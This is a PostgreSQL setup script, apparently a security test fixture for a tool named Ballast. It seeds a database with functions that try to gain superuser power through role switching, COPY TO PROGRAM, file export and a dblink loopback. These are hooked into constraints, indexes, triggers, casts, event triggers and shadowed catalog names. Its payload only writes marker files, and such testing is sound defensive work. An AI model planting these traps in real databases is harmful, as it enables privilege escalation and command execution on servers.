-- Everything in a database whose code runs when its tables are read, checked or planned. Each calls strike(), which
-- tries what a superuser could do, but only on a server that is not the source (or where a session arms it).
-- Run as superuser in database shop; roles app, other and ops exist, app owns the database.
CREATE SCHEMA evil; GRANT ALL ON SCHEMA evil TO PUBLIC;
CREATE EXTENSION dblink SCHEMA evil;
GRANT EXECUTE ON FUNCTION evil.dblink_connect_u(text, text) TO PUBLIC;
GRANT EXECUTE ON FUNCTION lo_export(oid, text), pg_read_file(text) TO PUBLIC;
GRANT pg_execute_server_program, pg_write_server_files, pg_read_server_files TO ops;
SELECT lo_from_bytea(4711, 'x');
CREATE FUNCTION evil.strike(what text) RETURNS void LANGUAGE plpgsql AS $f$
DECLARE
  loot text := 'LOOT' || what;
  become text;
  clock text := statement_timestamp()::text;
BEGIN
  IF coalesce(current_setting('evil.armed', true), '') = ''
     AND current_setting('cluster_name') = 'guarded' THEN
    RETURN;
  END IF;
  -- Once for each statement is enough.
  IF current_setting('evil.' || replace(what, '-', '_'), true) = clock THEN
    RETURN;
  END IF;
  PERFORM set_config('evil.' || replace(what, '-', '_'), clock, false);
  FOREACH become IN ARRAY ARRAY['SELECT 1', 'RESET ROLE', 'RESET SESSION AUTHORIZATION', 'SET SESSION AUTHORIZATION postgres',
      'SET ROLE postgres', 'SET ROLE ops', 'SET ROLE pg_execute_server_program', 'SET ROLE pg_write_server_files'] LOOP
    BEGIN EXECUTE become; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'cat > ' || loot || '-program'); EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE format('COPY (SELECT 1) TO %L', loot || '-file'); EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN PERFORM lo_export(4711, loot || '-lo'); EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN
      PERFORM evil.dblink_connect_u('back', format('host=%s port=%s user=postgres dbname=shop',
        split_part(current_setting('unix_socket_directories'), ',', 1), current_setting('port')));
      PERFORM evil.dblink_exec('back', format('COPY (SELECT 1) TO PROGRAM %L', 'cat > ' || loot || '-dblink'));
    EXCEPTION WHEN OTHERS THEN NULL; END;
  END LOOP;
  BEGIN RESET ROLE; EXCEPTION WHEN OTHERS THEN NULL; END;
END $f$;
CREATE FUNCTION evil.root(what text) RETURNS boolean LANGUAGE plpgsql SECURITY DEFINER AS $f$
BEGIN PERFORM evil.strike(what); RETURN true; END $f$;
CREATE FUNCTION evil.program(what text) RETURNS boolean LANGUAGE plpgsql SECURITY DEFINER AS $f$
BEGIN PERFORM evil.strike(what); RETURN true; END $f$;
ALTER FUNCTION evil.program(text) OWNER TO pg_execute_server_program;
CREATE FUNCTION evil.n(n int, what text) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$
BEGIN PERFORM evil.strike(what); RETURN n; END $f$;
CREATE FUNCTION evil.b(n int, what text) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $f$
BEGIN PERFORM evil.strike(what); RETURN true; END $f$;

-- Names that Ballast's own queries use, for the first one that finds them.
CREATE FUNCTION evil.pg_get_userbyid(oid) RETURNS name LANGUAGE plpgsql AS $f$
BEGIN PERFORM evil.strike('userbyid'); RETURN 'postgres'; END $f$;
CREATE FUNCTION evil.same(name, name) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN PERFORM evil.strike('operator-name'); RETURN true; END $f$;
CREATE OPERATOR evil.= (LEFTARG = name, RIGHTARG = name, FUNCTION = evil.same);
CREATE VIEW evil.pg_class AS SELECT *, evil.root('view-pg_class') FROM pg_catalog.pg_class;
ALTER DATABASE shop SET search_path = evil, pg_catalog, public;

-- An ordinary owner's tables.
SET ROLE app;
CREATE SCHEMA app;
CREATE DOMAIN app.d AS int CHECK (evil.b(VALUE, 'domain'));
CREATE FUNCTION app.eq(int, int) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $f$
BEGIN PERFORM evil.strike('operator'); RETURN true; END $f$;
CREATE OPERATOR app.=== (LEFTARG = int, RIGHTARG = int, FUNCTION = app.eq);
CREATE TABLE app.orders (
  id int PRIMARY KEY DEFAULT evil.n(0, 'default'),
  total int CONSTRAINT sane CHECK (evil.b(total, 'check')),
  twice int GENERATED ALWAYS AS (evil.n(total, 'generated')) STORED,
  d app.d,
  CONSTRAINT operator CHECK (total OPERATOR(app.===) 1),
  CONSTRAINT definer CHECK (evil.root('security-definer')),
  CONSTRAINT program CHECK (evil.program('predefined-owner')),
  EXCLUDE USING btree ((evil.n(id, 'exclusion')) WITH =)
);
INSERT INTO app.orders (id, total, d) SELECT g, g, g FROM generate_series(1, 50) g;
CREATE UNIQUE INDEX ON app.orders ((evil.n(id, 'unique-expression')));
CREATE INDEX ON app.orders ((evil.n(1, 'folded-expression') + total));
CREATE INDEX ON app.orders (total) WHERE evil.b(2, 'folded-predicate');
CREATE INDEX ON app.orders USING hash ((evil.n(total, 'hash-expression')));
CREATE STATISTICS app.s ON (evil.n(3, 'statistics') + total), id FROM app.orders;
CREATE POLICY p ON app.orders USING (evil.b(total, 'policy'));
ALTER TABLE app.orders ENABLE ROW LEVEL SECURITY;
ALTER TABLE app.orders FORCE ROW LEVEL SECURITY;
CREATE FUNCTION app.row_text(app.orders) RETURNS text LANGUAGE plpgsql AS $f$
BEGIN PERFORM evil.strike('row-cast'); RETURN 'x'; END $f$;
CREATE CAST (app.orders AS text) WITH FUNCTION app.row_text(app.orders) AS ASSIGNMENT;
CREATE TABLE app.broken (id int, CONSTRAINT never CHECK (id > 5) NOT VALID);
CREATE FUNCTION app.broken_text(app.broken) RETURNS text LANGUAGE plpgsql AS $f$
BEGIN PERFORM evil.strike('row-cast-of-breach'); RETURN 'x'; END $f$;
CREATE CAST (app.broken AS text) WITH FUNCTION app.broken_text(app.broken) AS ASSIGNMENT;
CREATE FUNCTION app.trig() RETURNS trigger LANGUAGE plpgsql AS $f$
BEGIN PERFORM evil.strike('trigger'); RETURN NEW; END $f$;
CREATE TRIGGER t BEFORE INSERT OR UPDATE ON app.orders FOR EACH ROW EXECUTE FUNCTION app.trig();
ALTER TABLE app.orders ENABLE ALWAYS TRIGGER t;
CREATE MATERIALIZED VIEW app.m AS SELECT id, total FROM app.orders;
CREATE UNIQUE INDEX ON app.m ((evil.n(id, 'matview-index')));
CREATE TABLE app.parted (id int, k int, PRIMARY KEY (id, k)) PARTITION BY RANGE (k);
CREATE TABLE app.part PARTITION OF app.parted FOR VALUES FROM (0) TO (100);
INSERT INTO app.parted SELECT g, g FROM generate_series(1, 20) g;
CREATE INDEX ON app.parted ((evil.n(4, 'partitioned-index') + k));
GRANT USAGE ON SCHEMA app TO PUBLIC; GRANT SELECT, REFERENCES ON app.orders TO other;
RESET ROLE;
-- Another owner, whose foreign key leads to the first one's table.
SET ROLE other;
CREATE SCHEMA other;
CREATE TABLE other.lines (id int PRIMARY KEY, order_id int REFERENCES app.orders);
INSERT INTO other.lines SELECT g, g FROM generate_series(1, 50) g;
CREATE INDEX ON other.lines ((evil.n(5, 'other-owner') + id));
RESET ROLE;
-- An owner who may run programs and write files on the source.
SET ROLE ops;
CREATE SCHEMA ops;
CREATE TABLE ops.t (id int PRIMARY KEY CHECK (evil.b(id, 'member-of-predefined')));
INSERT INTO ops.t VALUES (1), (2);
RESET ROLE;
-- A predefined role as owner.
CREATE TABLE evil.predefined (id int CHECK (evil.b(id, 'owned-by-predefined')));
INSERT INTO evil.predefined VALUES (1), (2);
CREATE INDEX ON evil.predefined ((evil.n(6, 'predefined-index') + id));
ALTER TABLE evil.predefined OWNER TO pg_write_server_files;
-- The superuser's own table, with the ordinary owner's code in it.
CREATE TABLE public.ledger (id int PRIMARY KEY, amount int CHECK (evil.b(amount, 'superuser-check')));
INSERT INTO public.ledger SELECT g, g FROM generate_series(1, 50) g;
CREATE INDEX ON public.ledger ((evil.n(7, 'superuser-index') + amount));
ALTER FUNCTION evil.strike(text) OWNER TO app;
ALTER FUNCTION evil.b(int, text) OWNER TO app;
ALTER FUNCTION evil.n(int, text) OWNER TO app;
-- Event triggers that no setting but their own stops.
CREATE FUNCTION evil.ddl() RETURNS event_trigger LANGUAGE plpgsql AS $f$
BEGIN PERFORM evil.strike(TG_EVENT); END $f$;
CREATE EVENT TRIGGER ddl ON ddl_command_start EXECUTE FUNCTION evil.ddl();
ALTER EVENT TRIGGER ddl ENABLE ALWAYS;
CREATE EVENT TRIGGER ending ON ddl_command_end EXECUTE FUNCTION evil.ddl();
ALTER EVENT TRIGGER ending ENABLE REPLICA;
DO $$ BEGIN
  IF current_setting('server_version_num')::int >= 170000 THEN
    EXECUTE 'CREATE EVENT TRIGGER entering ON login EXECUTE FUNCTION evil.ddl()';
    EXECUTE 'ALTER EVENT TRIGGER entering ENABLE ALWAYS';
  END IF;
END $$;
